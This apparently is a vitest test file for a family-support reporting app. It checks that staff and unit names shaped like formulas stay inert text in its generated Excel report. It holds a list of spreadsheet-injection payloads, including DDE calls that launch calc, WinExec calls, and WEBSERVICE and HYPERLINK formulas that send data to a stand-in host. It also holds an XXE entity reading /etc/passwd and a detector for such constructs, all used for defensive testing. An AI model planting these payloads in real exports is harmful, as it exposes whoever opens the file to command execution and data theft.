import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import writeExcelFile from 'write-excel-file/node';
import type { ProgrammeReport } from '#contract/programme.ts';
import { spreadsheet } from '#server/programme/spreadsheet.ts';
import { as, givenUnit, noon, prisma } from '../support/given.ts';

// V14: a name that is a formula is worked out by the office program that opens the report.

const beginnings = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u200b=', '\ufeff=', '＝', '|', '%', "'=", '"='];
const formulas = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://198.51.100.1/?"&A1,"Szczegóły")',
  'WEBSERVICE("http://198.51.100.1/")',
  'IMPORTXML("http://198.51.100.1/","//a")',
  'DDE("cmd";"/C calc";"x")',
  '1+1',
  'SUM(A1:A9)',
  'A1',
  'INDIRECT("A1")',
  'RTD("x",,"y")',
  'CALL("kernel32","WinExec","JC","calc",0)',
  'EXEC("calc")',
];
const markup = [
  '</t></is></c><c r="A1"><f>1+1</f></c>',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '&#61;1+1',
  '_x003D_1+1',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  'a\u0001b',
  'a\u000bb',
  'a\uffffb',
  '"><c t="str"><f>1</f>',
];
const payloads = [...beginnings.flatMap((one) => formulas.map((formula) => one + formula)), ...markup];

/** A report in which every text that somebody typed is one of these. */
const reportOf = (names: string[]): ProgrammeReport => ({
  from: '2026-01-01',
  until: '2026-06-30',
  unitName: names[0]!,
  people: {
    families: 0,
    familiesOnLastDay: 0,
    familiesByRoute: [],
    children: 0,
    fosterFamilies: 0,
    fosterFamiliesOnLastDay: 0,
    childrenInCare: 0,
    endings: [],
  },
  work: { byForm: [], total: { entries: 0, visits: 0, minutes: 0 }, attempts: 0 },
  byWorker: names.map((name) => ({
    staffId: '',
    name,
    role: null,
    families: 0,
    fosterFamilies: 0,
    entries: 0,
    visits: 0,
    minutes: 0,
  })),
  deadlines: { due: 0, met: 0, metLate: 0, missedOrOverdue: 0 },
  money: [],
  moneyTotal: { taskValueGrosze: 0, grantGrosze: 0, ownGrosze: 0, grantShare: null },
  gaps: [],
});

function unpacked(file: Buffer) {
  const path = join(mkdtempSync(join(tmpdir(), 'piecza-attack-')), 'report.xlsx');
  writeFileSync(path, file);
  const unzip = (...options: string[]) => execFileSync('unzip', [...options, path], { encoding: 'utf8' });
  return { parts: unzip('-Z1').split('\n').filter(Boolean), xml: unzip('-p') };
}

const isNoXml = (letter: string) => (letter < ' ' && !'\t\n\r'.includes(letter)) || '\ufffe\uffff'.includes(letter);

/** Reads a file as an office program would. @returns what it would work out, follow or fail to read */
function workedOutIn(file: Buffer) {
  if (!file.subarray(0, 2).equals(Buffer.from('PK'))) {
    const cells = file.toString('utf8').split(/[;\n]/);
    return cells.filter((cell) => /^[\s\u200b\ufeff"]*[=+\-@＝|%]/.test(cell)).map((cell) => `a cell of text: ${cell}`);
  }
  const { parts, xml } = unpacked(file);
  return [
    ...[...xml.matchAll(/<f[\s>].{0,40}/g)].map(([found]) => `a formula: ${found}`),
    ...[...xml.matchAll(/<(hyperlink|externalReference|ddeLink|oleLink)\b/g)].map(([found]) => `a link: ${found}`),
    ...[...xml.matchAll(/<!(DOCTYPE|ENTITY)/g)].map(([found]) => `a definition: ${found}`),
    ...[...xml.matchAll(/<c [^>]*\bt="(?!s"|n"|inlineStr")[^"]*"/g)].map(
      ([found]) => `a cell of another kind: ${found}`,
    ),
    // Neither in XML 1.0 as they are nor as a reference: the program would not open the file.
    ...[...xml].filter(isNoXml).map((found) => `a character that breaks the file: ${JSON.stringify(found)}`),
    ...[...xml.matchAll(/&#x?0*(?:[0-8bcef]|1[0-9a-f]);/gi)].map(([found]) => `a reference that breaks it: ${found}`),
    ...parts.filter((part) => /vba|externalLink|customUI|oleObject/i.test(part)).map((part) => `a part: ${part}`),
  ];
}

type Writer = (report: ProgrammeReport, madeAt: Date) => Promise<Buffer>;

async function writeFormulas(write: Writer) {
  return [...new Set(workedOutIn(await write(reportOf(payloads), noon)))];
}

test('names and units that are formulas stay words in the report', async () => {
  expect(payloads.length).toBeGreaterThan(180);
  expect(await writeFormulas(spreadsheet)).toEqual([]);
});

test('the same from the form to the downloaded file', async () => {
  const { staff, unitId, supervisor } = await givenUnit();
  await prisma.unit.update({ where: { id: unitId }, data: { name: '=1+1' } });
  const administrator = await as(await staff('administrator'));
  const { id: staffId } = await staff('assistant');
  const names = { givenName: '=cmd|', familyName: "' /C calc'!A0", email: `formula.${unitId}@example.test` };
  const renamed = await administrator.put(`/api/staff/${staffId}`).set('If-Match', '"1"').send(names);
  expect(renamed.status).toBe(200);
  const family = await prisma.family.create({
    data: { unitId, name: '=1', signature: '=1', intakeRoute: 'court', intakeOn: noon, street: '=1', city: '=1' },
  });
  await prisma.assignment.create({
    data: { unitId, staffId, familyId: family.id, startedOn: new Date('2026-02-01'), assignedById: supervisor.id },
  });
  const head = await as({ ...supervisor, role: 'supervisor' });
  const { body } = await head.post('/api/report-runs').send({ from: '2026-01-01', until: '2026-06-30' });
  const { body: file, headers } = await head.get(`/api/report-runs/${body.id}/xlsx`).responseType('blob');
  expect(workedOutIn(file)).toEqual([]);
  expect(unpacked(file).xml).toContain("<t>=cmd| ' /C calc'!A0</t>");
  expect(headers['content-disposition']).toBe('attachment; filename="sprawozdanie_2026-01-01_2026-06-30.xlsx"');
});

test('a workbook that takes what begins with = for a formula is found', async () => {
  const obliging: Writer = async ({ byWorker }) =>
    writeExcelFile(
      byWorker.map(({ name }) => [
        name.startsWith('=') ? { value: name.slice(1), type: 'Formula' } : { value: name, type: String },
      ]),
    ).toBuffer();
  expect((await writeFormulas(obliging)).filter((each) => each.startsWith('a formula')).length).toBeGreaterThan(5);
});

test('a plain list of cells without a guard is found', async () => {
  const csv: Writer = async ({ byWorker }) =>
    Buffer.from(byWorker.map(({ name, minutes }) => `${name};${minutes}`).join('\n'));
  expect((await writeFormulas(csv)).length).toBeGreaterThan(100);
});
